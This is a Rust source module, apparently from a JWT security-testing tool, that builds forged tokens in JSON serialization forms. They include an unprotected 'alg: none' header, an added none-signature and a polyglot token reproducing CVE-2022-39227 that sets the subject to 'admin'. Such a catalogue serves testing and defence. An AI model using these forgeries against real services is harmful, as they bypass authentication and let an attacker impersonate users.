//! The same token written in another form than the one that is due.

use serde_json::json;

use crate::attack::{
    Family, Forged, Forgery, Signed,
    draft::{Draft, raw},
};

const MEANS: &str = "JSON forms are taken where the compact form is due (RFC 7519 §3): checks made on the compact form are walked around.";
const UNPROTECTED: &str = "A header that no signature covers decides: anyone can write any token.";

#[rustfmt::skip] // a table: one line a forgery
pub(in crate::attack) fn forgeries() -> Vec<Forgery> {
    const F: Family = Family::Serialization;
    vec![
        Forgery::token(F, "json-flattened", "Flattened JSON", "The token is written in the flattened JSON form; the signature is good.", "RFC 7515 §7.2.2, RFC 7519 §3; Wycheproof", MEANS, |d| { let [h, p, s] = d.parts()?; json_form(json!({ "payload": p, "protected": h, "signature": s })) }),
        Forgery::token(F, "json-general", "General JSON", "The token is written in the general JSON form; the signature is good.", "RFC 7515 §7.2.1, RFC 7519 §3; Wycheproof", MEANS, |d| { let [h, p, s] = d.parts()?; json_form(json!({ "payload": p, "signatures": [{ "protected": h, "signature": s }] })) }),
        Forgery::token(F, "json-unprotected-alg", "Unprotected `alg: none`", "The flattened JSON form, with `alg: none` in the unprotected header and no signature.", "RFC 7515 §7.2.1, RFC 8725 §3.2; jwt-hack", UNPROTECTED, |d| { let [_, p, _] = d.parts()?; json_form(json!({ "payload": p, "header": { "alg": "none" }, "signature": "" })) }),
        Forgery::token(F, "json-unprotected-override", "Unprotected `alg` beside the protected one", "The flattened JSON form; the unprotected header has `alg: none` as well.", "RFC 7515 §7.2.1; own", UNPROTECTED, |d| { let [h, p, s] = d.parts()?; json_form(json!({ "payload": p, "protected": h, "header": { "alg": "none" }, "signature": s })) }),
        Forgery::token(F, "json-second-signature", "A second signature", "The general JSON form; the issuer's signature stands beside one that is none.", "RFC 7515 §7.2.1; own", "One of several signatures is enough, or the wrong one is looked at.", |d| { let [h, p, s] = d.parts()?; json_form(json!({ "payload": p, "signatures": [{ "protected": crate::jose::b64::encode("{\"alg\":\"none\"}"), "signature": "" }, { "protected": h, "signature": s }] })) }),
        Forgery::token(F, "json-two-payloads", "Compact and JSON at once", "The flattened JSON form with a forged payload, and the good token in a member beside it.", "RFC 7515 §7.2.2; own (the polyglot of CVE-2022-39227)", "Verified is one token, read is the other: anyone can write any claims (CVE-2022-39227).", polyglot),
    ]
}

#[allow(clippy::needless_pass_by_value)] // made at the place of use
fn json_form(value: serde_json::Value) -> Forged {
    raw(value.to_string(), Signed::Altered)
}

/// python-jwt split the text at its dots for the claims and gave the whole to a JSON verifier.
fn polyglot(d: &Draft<'_>) -> Forged {
    let [header, payload, signature] = d.parts()?;
    let forged = crate::jose::b64::encode(d.payload_set("/sub", Some("admin".into()))?);
    raw(
        format!(
            "{{\"  {header}.{forged}.\":\"\",\"protected\":\"{header}\",\"payload\":\"{payload}\",\"signature\":\"{signature}\"}}"
        ),
        Signed::Altered,
    )
}
